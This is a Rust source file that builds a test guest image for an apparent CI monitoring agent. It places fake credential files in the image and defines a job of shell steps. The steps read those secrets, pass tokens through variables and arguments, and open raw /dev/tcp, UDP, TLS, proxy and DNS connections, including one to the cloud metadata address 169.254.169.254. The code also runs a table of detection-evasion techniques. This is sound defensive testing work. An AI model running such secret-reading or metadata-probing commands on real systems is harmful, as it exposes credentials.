//! What the guest consists of: this machine's programs with their libraries, the programs under test, fake secrets,
//! the job. The same for every kernel; no kernel module is needed.

use std::{
    collections::BTreeSet,
    env, fs,
    path::{Path, PathBuf},
    process::Command,
};

use anyhow::{Context as _, Result};
use buildtrail_evasion::{micro, place, techniques};
use serde_json::json;

use super::archive::Archive;
use crate::shell::answer;

/// Part of every secret's value, and of nothing else.
pub(super) const VALUE_OF_SECRETS: &str = "FAKE-not-a-";
/// The job's repository.
pub(super) const REPOSITORY: &str = "acme/guest";
/// Repository of the job that tries every technique of the evasion table.
pub(super) const EVASION: &str = "acme/evasion";
/// Where single operations are measured.
const MICRO_PLACE: &str = "/srv/micro";
/// Where those techniques work.
const EVASION_PLACE: &str = "/srv/evasion";

const INIT: &str = include_str!("init.sh");
/// Where each program under test goes.
const TESTED: [(&str, &str); 4] = [
    ("buildtrail-agent", "usr/bin/buildtrail-agent"),
    ("evasion", "usr/bin/evasion"),
    ("standins", "usr/bin/standins"),
    ("fakerunner", "runner/bin/Runner.Worker"),
];
/// Programs of this machine.
const BORROWED: [&str; 4] = ["bash", "ip", "ssh-agent", "ssh-add"];
const FILES: [(&str, &str); 6] = [
    ("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
    ("etc/machine-id", "00000000000000000000000000000001\n"),
    ("etc/resolv.conf", "# The stand-ins mount theirs here.\n"),
    ("root/.npmrc", "//registry.example.test/:_authToken=FAKE-not-a-token\n"),
    ("root/.netrc", "machine git.example.test login octavia password FAKE-not-a-secret\n"),
    (
        "root/.docker/config.json",
        "{\"auths\":{\"registry.example.test\":{\"auth\":\"FAKE-not-a-secret\"}}}\n",
    ),
];
/// The job: a step's id and its script. What each must leave in the trail is in `facts.rs`.
const STEPS: [(&str, &str); 20] = [
    ("link", "cat /srv/link-to-npmrc > /dev/null"),
    (
        "daemon",
        "(setsid env -i PATH=$PATH sh -c 'sleep 0.2; cat /root/.docker/config.json > /dev/null' &) ; sleep 1",
    ),
    ("variable", "export NPM_TOKEN=FAKE-not-a-token; env true"),
    ("argument", "env true --token=FAKE-not-a-token"),
    ("ssh-agent", "ssh-add -l || true"),
    ("tcp4", ": > /dev/tcp/127.0.0.10/8443"),
    ("tcp6", ": > /dev/tcp/::1/8444"),
    ("udp4", "echo x > /dev/udp/127.0.0.1/8125"),
    ("datagram4", "timeout 1 tftp -g -r x -l /dev/null 127.0.0.1 6969 || true"),
    ("datagram6", "timeout 1 tftp -g -r x -l /dev/null ::1 6969 || true"),
    ("name", ": > /dev/tcp/registry.example.test/8445"),
    ("metadata", ": > /dev/tcp/169.254.169.254/80"),
    ("closed", "printf 12345 > /dev/tcp/127.0.0.10/8446"),
    ("refused", ": > /dev/tcp/127.0.0.1/9 || true"),
    ("inherited", "exec 3> /dev/tcp/127.0.0.10/8446; env printf 1 >&3"),
    (
        "tls",
        "printf '\\x16\\3\\1\\0\\x48\\1\\0\\0\\x44\\3\\3rrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrr\\0\\0\\2\\x13\\1\\1\\0\\0\\x19\\0\\0\\0\\x15\\0\\x13\\0\\0\\x10sni.example.test' \
         > /dev/tcp/127.0.0.10/8446",
    ),
    (
        "proxy",
        "printf 'CONNECT api.example.test:443 HTTP/1.1\\r\\nProxy-Authorization: FAKE-not-a-token\\r\\n\\r\\n' > /tmp/ask; \
         cat /tmp/ask > /dev/tcp/127.0.0.10/8446",
    ),
    (
        "dns-tcp",
        "exec 3<> /dev/tcp/127.0.0.53/53; \
         printf '\\0\\x1e\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\4test\\0\\0\\1\\0\\1' >&3; \
         head -c 32 <&3 > /dev/null",
    ),
    ("ping", "ping -c 1 127.0.0.1 || true"),
    ("packet", "timeout 2 arping -c 1 -I lo 127.0.0.1 || true"),
];

/// The guest's first file system, as the kernel takes it.
pub(super) fn build(binaries: &Path, busybox: &Path) -> Result<Vec<u8>> {
    let mut archive = Archive::default();
    archive.console();
    archive.program("init", INIT.as_bytes());
    archive.program("bin/busybox", &read(busybox)?);
    archive.directory("usr/sbin");
    let mut programs = Vec::new();
    for (name, place) in TESTED {
        programs.push((binaries.join(name), place.to_owned()));
    }
    for name in BORROWED {
        programs.push((find(name)?, format!("usr/bin/{name}")));
    }
    let mut libraries = BTreeSet::new();
    for (program, place) in &programs {
        archive.program(place, &read(program)?);
        libraries.extend(libraries_of(program)?);
    }
    for library in libraries {
        archive.program(library.trim_start_matches('/'), &read(Path::new(&library))?);
    }
    for (name, content) in FILES {
        archive.file(name, content.as_bytes());
    }
    archive.file("etc/buildtrail-agent/agent.toml", place::settings(Path::new(EVASION_PLACE)).as_bytes());
    archive.link("srv/link-to-npmrc", "../root/.npmrc");
    archive.file("runner/plan.json", plan().as_bytes());
    archive.file("etc/buildtrail-agent/micro.toml", micro::settings(Path::new(MICRO_PLACE)).as_bytes());
    archive.file("runner/micro.json", micro_plan().as_bytes());
    archive.file("etc/micro-rows", micro::names(false).as_bytes());
    Ok(archive.finish())
}

/// What `fakerunner` runs.
fn plan() -> String {
    let steps: Vec<_> = STEPS.iter().map(|(id, script)| json!({"id": id, "script": script})).collect();
    let evasion: Vec<_> = techniques()
        .into_iter()
        .map(|technique| {
            let script = place::script(Path::new(EVASION_PLACE), technique.name);
            json!({"id": technique.name, "script": script})
        })
        .collect();
    let job = |repository, run, steps| json!({"repository": repository, "run_id": run, "steps": steps});
    json!({"at_once": 1, "jobs": [job(REPOSITORY, "1", steps), job(EVASION, "2", evasion)]}).to_string()
}

/// What `fakerunner` runs to measure; the agent's number, 0 for none, is in a file.
fn micro_plan() -> String {
    let script = format!(
        "evasion micro {MICRO_PLACE} $(cat /run/agent.pid) {} > /run/inside 2>&1",
        micro::names(true)
    );
    let job =
        json!({"repository": "acme/micro", "run_id": "1", "steps": [{"id": "micro", "script": script}]});
    json!({"at_once": 1, "jobs": [job]}).to_string()
}

/// Absolute paths of the libraries, and of the loader, that a program needs.
fn libraries_of(program: &Path) -> Result<Vec<String>> {
    let list = answer(Command::new("ldd").arg(program))
        .with_context(|| format!("ldd cannot say which libraries {} needs", program.display()))?;
    Ok(list.split_whitespace().filter(|word| word.starts_with('/')).map(str::to_owned).collect())
}

fn find(program: &str) -> Result<PathBuf> {
    let path = env::var_os("PATH").unwrap_or_default();
    env::split_paths(&path)
        .chain(["/usr/sbin", "/sbin"].map(PathBuf::from))
        .map(|directory| directory.join(program))
        .find(|candidate| candidate.is_file())
        .with_context(|| format!("{program} is not there: run `cargo xtask setup` first"))
}

fn read(path: &Path) -> Result<Vec<u8>> {
    fs::read(path).with_context(|| format!("cannot read {}", path.display()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_secret_of_the_guest_says_that_it_is_fake() {
        let secrets = FILES.iter().filter(|(name, _)| name.starts_with("root/"));
        assert!(secrets.clone().count() > 0);
        for (name, content) in secrets {
            assert!(content.contains(VALUE_OF_SECRETS), "{name}");
        }
    }
}
